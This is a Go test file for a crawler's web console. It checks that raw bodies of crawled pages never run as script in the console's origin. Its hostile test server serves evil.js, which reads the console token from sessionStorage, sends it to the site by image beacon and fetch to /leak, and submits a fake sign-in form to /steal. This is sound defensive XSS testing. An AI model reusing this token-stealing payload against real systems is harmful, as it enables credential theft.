package api_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/freshcrawl/freshcrawl/internal/node"
	"github.com/freshcrawl/freshcrawl/internal/testutil"
)

// hostile is a crawled site that attacks the console: page.html loads
// evil.js from the console's own raw-body route and carries a fake
// sign-in form posting to the site; evil.js, wherever it runs, marks the
// page, reports its origin and the console's token to the site and posts
// the form. canary.html loads evil.js from the site itself, to show that
// the reports do arrive when the script runs.
type hostile struct {
	console string // the console's base URL, known once the node runs
	ua      string // the crawler's User-Agent: requests from anyone else come from the browser

	mu      sync.Mutex
	browser []string // what the browser asked for
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.UserAgent() != h.ua {
		h.mu.Lock()
		h.browser = append(h.browser, r.Method+" "+r.URL.RequestURI())
		h.mu.Unlock()
	}
	site := "http://" + r.Host
	switch r.URL.Path {
	case "/page.html":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><html><body><h1>Session expired</h1>
<form id="f" action="%s/steal" method="post"><input name="token" placeholder="enter your token"><button>Sign in</button></form>
<script src="%s/api/content?raw=1&amp;url=%s"></script>
</body></html>`, site, h.console, url.QueryEscape(site+"/evil.js"))
	case "/canary.html":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><html><body><form id="f" action="/steal" method="post"><input name="token"></form><script src="/evil.js"></script></body></html>`)
	case "/evil.js":
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprintf(w, `window.fcPwned = location.origin;
try { sessionStorage.setItem("fc-pwned", location.origin); } catch (e) {}
var tok = ""; try { tok = sessionStorage.getItem("freshcrawl-token") || ""; } catch (e) {}
var q = "origin=" + encodeURIComponent(location.origin) + "&token=" + encodeURIComponent(tok);
new Image().src = %[1]q + "/leak?img&" + q;
try { fetch(%[1]q + "/leak?fetch&" + q, { mode: "no-cors" }); } catch (e) {}
var f = document.getElementById("f"); if (f) { f.token.value = tok || "none"; f.submit(); }
`, site)
	default:
		http.NotFound(w, r)
	}
}

func (h *hostile) asked() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.browser...)
}

// TestRawBodyNeverRunsInConsole crawls a hostile site (page.html and
// evil.js, both seeded with keep_raw and fetched by a real worker) and
// uses the raw body's actions on page.html in the console in Chromium,
// without tokens (the console's raw route would serve evil.js to a page
// drawn in its origin) and signed in with one (the page's fake sign-in
// form, filled in by an operator who falls for it). The body is shown as
// text and saved as a file, no tab opens, no script or form of the site
// reaches the console's origin and the browser sends the site nothing. A
// form posting elsewhere from the console's page is refused by its
// policy.
func TestRawBodyNeverRunsInConsole(t *testing.T) {
	exe := chromium(t)
	t.Run("no token", func(t *testing.T) { rawBodyAttack(t, exe, "") })
	t.Run("token", func(t *testing.T) { rawBodyAttack(t, exe, adminToken) })
}

func rawBodyAttack(t *testing.T, exe, token string) {
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cfg := testConfig(t.TempDir())
	if token != "" {
		cfg.APITokens = []string{token}
	}
	evil := &hostile{ua: cfg.UserAgent}
	srv := httptest.NewServer(evil)
	defer srv.Close()
	n, err := node.Start(ctx, node.Options{Config: cfg, Roles: node.Roles{Coordinator: true, Workers: 1, HTTP: true}, Log: testutil.QuietLogger(t)})
	if err != nil {
		t.Fatal(err)
	}
	defer n.Stop()
	base := "http://" + n.HTTPAddr()
	evil.console = base
	page, script := srv.URL+"/page.html", srv.URL+"/evil.js"
	seeds := fmt.Sprintf("{\"url\":%q,\"keep_raw\":true}\n{\"url\":%q,\"keep_raw\":true}\n", page, script)
	if _, err := n.Coordinator.AddSeeds(strings.NewReader(seeds), "test"); err != nil {
		t.Fatal(err)
	}
	testutil.WaitFor(t, 40*time.Second, "both raw bodies kept by the crawl", func() bool {
		_, p, _ := n.DB.Raw(page, false)
		_, s, _ := n.DB.Raw(script, false)
		return p && s
	})
	pageBody, _, err := n.DB.Raw(page, true)
	if err != nil || !strings.Contains(string(pageBody.Body), "/api/content?raw=1") {
		t.Fatalf("raw body of page.html: %q %v", pageBody.Body, err)
	}

	alloc, cancelAlloc := chromedp.NewExecAllocator(ctx, append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(exe), chromedp.UserDataDir(t.TempDir()), chromedp.Flag("headless", true), chromedp.NoSandbox,
		chromedp.Flag("disable-gpu", true), chromedp.NoFirstRun, chromedp.Flag("disable-background-networking", true))...)
	defer cancelAlloc()
	bctx, cancelBrowser := chromedp.NewContext(alloc)
	defer cancelBrowser()
	if err := chromedp.Do(bctx); err != nil {
		t.Fatalf("start Chromium: %v", err)
	}
	downloads := t.TempDir()
	progress := chromedp.Events(bctx, browser.DownloadProgress)
	poll := func(js string) chromedp.Action[chromedp.Void] {
		return func(ctx context.Context, tg *chromedp.Target) (chromedp.Void, error) {
			_, err := chromedp.Poll[bool](js, chromedp.WithPollingTimeout(15*time.Second))(ctx, tg)
			return chromedp.Void{}, err
		}
	}
	do := func(what string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		sctx, cancel := context.WithTimeout(bctx, 20*time.Second)
		defer cancel()
		if err := chromedp.Do(sctx, steps...); err != nil {
			where, _ := chromedp.Run(bctx, chromedp.Evaluate[string](`location.href + " " + document.body.dataset.page`))
			t.Fatalf("%s: %v (at %s; the site was asked for %q)", what, err, where, evil.asked())
		}
	}
	str := func(js string) string {
		t.Helper()
		sctx, cancel := context.WithTimeout(bctx, 20*time.Second)
		defer cancel()
		v, err := chromedp.Run(sctx, chromedp.Evaluate[string](js))
		if err != nil {
			t.Fatalf("evaluate %s: %v", js, err)
		}
		return v
	}
	pages := func() int {
		t.Helper()
		ts, err := chromedp.Targets(bctx)
		if err != nil {
			t.Fatal(err)
		}
		k := 0
		for _, ti := range ts {
			if ti.Type == "page" {
				k++
			}
		}
		return k
	}

	ready := poll(`document.body.dataset.page === "url" && !!document.querySelector('[data-action="raw-view"]')`)
	route := base + "/#/url?u=" + url.QueryEscape(page)
	if token == "" {
		do("open the URL's page", chromedp.Navigate(route), ready)
	} else {
		do("sign in", chromedp.Navigate(route), poll(`document.body.dataset.page === "signin"`),
			chromedp.SetValue(chromedp.CSS(`form.signin input[name="token"]`), token), chromedp.Click(chromedp.CSS(`form.signin button`)), ready)
	}
	tabs := pages()

	// View as text: the page's markup, as text in the console's page.
	do("view the raw body", chromedp.Click(chromedp.CSS(`[data-action="raw-view"]`)), poll(`!!document.querySelector("[data-raw-text]")`))
	if got := str(`document.querySelector("[data-raw-text]").textContent`); got != string(pageBody.Body) {
		t.Errorf("raw body shown as %q, want %q", got, pageBody.Body)
	}

	// Download: the bytes land in a file; nothing is drawn.
	do("download the raw body", chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
		_, err := chromedp.Call(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
			Behavior: browser.SetDownloadBehaviorBehaviorAllowAndName, DownloadPath: downloads, EventsEnabled: new(true)})
		return err
	}), chromedp.Click(chromedp.CSS(`[data-action="raw-download"]`)))
	for ev, err := range progress {
		if err != nil {
			t.Fatalf("download: %v", err)
		}
		if ev.State == browser.DownloadProgressStateCanceled {
			t.Fatal("the download was canceled")
		}
		if ev.State != browser.DownloadProgressStateCompleted {
			continue
		}
		b, err := os.ReadFile(filepath.Join(downloads, ev.GUID))
		if err != nil || string(b) != string(pageBody.Body) {
			t.Errorf("downloaded %q (%v), want the raw body", b, err)
		}
		break
	}

	// The operator falls for whatever sign-in form the crawled page drew.
	if got := str(`(() => { const f = document.querySelector("form#f"); if (!f) return "no form"; f.token.value = "typed-" + sessionStorage.getItem("freshcrawl-token"); f.submit(); return "submitted"; })()`); got != "no form" {
		t.Errorf("the crawled page's form is in the console's tab: %s", got)
	}
	// The tab is still the console's page, no tab was opened, and no
	// script of the site ran in it.
	if got := str(`location.origin + " " + document.body.dataset.page`); got != base+" url" {
		t.Errorf("the tab is at %q, want the console's URL page", got)
	}
	if got := pages(); got != tabs {
		t.Errorf("%d tabs after the raw body's actions, %d before", got, tabs)
	}
	if got := str(`String(window.fcPwned) + " " + sessionStorage.getItem("fc-pwned")`); got != "undefined null" {
		t.Errorf("a script of the crawled site ran in the console: %s", got)
	}

	// A form posting to another site from the console's origin is
	// refused. The violation report is the sync point: once it fires, the
	// post would have left.
	do("a form posting elsewhere", eval(fmt.Sprintf(`(() => {
		document.addEventListener("securitypolicyviolation", e => { window.fcViolation = e.effectiveDirective; });
		const f = document.createElement("form"); f.method = "post"; f.action = %q;
		const i = document.createElement("input"); i.name = "token"; i.value = sessionStorage.getItem("freshcrawl-token"); f.append(i);
		document.body.append(f); f.submit(); })()`, srv.URL+"/steal")), poll(`window.fcViolation === "form-action"`))
	if got := evil.asked(); len(got) != 0 {
		t.Fatalf("the browser asked the crawled site for %q", got)
	}

	// The canary: at the site's own origin evil.js runs and reports, so
	// the silence above is the console's doing.
	do("the canary", chromedp.Navigate(srv.URL+"/canary.html"))
	testutil.WaitFor(t, 15*time.Second, "the canary's report at the site", func() bool {
		for _, a := range evil.asked() {
			if strings.HasPrefix(a, "POST /steal") {
				return true
			}
		}
		return false
	})
}
